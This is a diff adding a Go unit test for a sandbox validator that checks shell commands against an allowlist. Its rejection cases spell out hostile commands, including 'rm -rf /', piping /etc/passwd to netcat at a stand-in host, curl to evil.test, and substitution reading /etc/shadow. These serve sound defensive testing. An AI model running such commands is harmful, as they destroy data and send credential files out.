@@ -0,0 +1,43 @@
+package sandbox
+
+import "testing"
+
+func TestValidateFollowUp(t *testing.T) {
+	cases := []struct {
+		name    string
+		command string
+		wantErr bool
+	}{
+		{"allowed binary and args", "grep -i suspicious /var/log/system.log", false},
+		{"default allowlist binary", "ps aux", false},
+		{"binary not in allowlist", "rm -rf /", true},
+		{"command chaining with semicolon", "cat /etc/passwd; rm -rf /", true},
+		{"command chaining with double ampersand", "ps aux && curl evil.test", true},
+		{"pipe to unvalidated binary", "cat /etc/passwd | nc evil.test 4444", true},
+		{"command substitution", "grep $(whoami) /etc/shadow", true},
+		{"backtick substitution", "grep `whoami` /etc/shadow", true},
+		{"redirection", "cat /etc/passwd > /tmp/out", true},
+		{"empty command", "", true},
+	}
+
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			err := ValidateFollowUp(tc.command, DefaultAllowlist)
+			if tc.wantErr && err == nil {
+				t.Fatalf("expected error for command %q, got nil", tc.command)
+			}
+			if !tc.wantErr && err != nil {
+				t.Fatalf("expected no error for command %q, got %v", tc.command, err)
+			}
+		})
+	}
+}
+
+func TestValidateFollowUpCustomAllowlist(t *testing.T) {
+	if err := ValidateFollowUp("lsof -i", []string{"lsof"}); err != nil {
+		t.Fatalf("expected lsof to be allowed, got %v", err)
+	}
+	if err := ValidateFollowUp("grep foo", []string{"lsof"}); err == nil {
+		t.Fatal("expected grep to be rejected by a custom allowlist that only allows lsof")
+	}
+}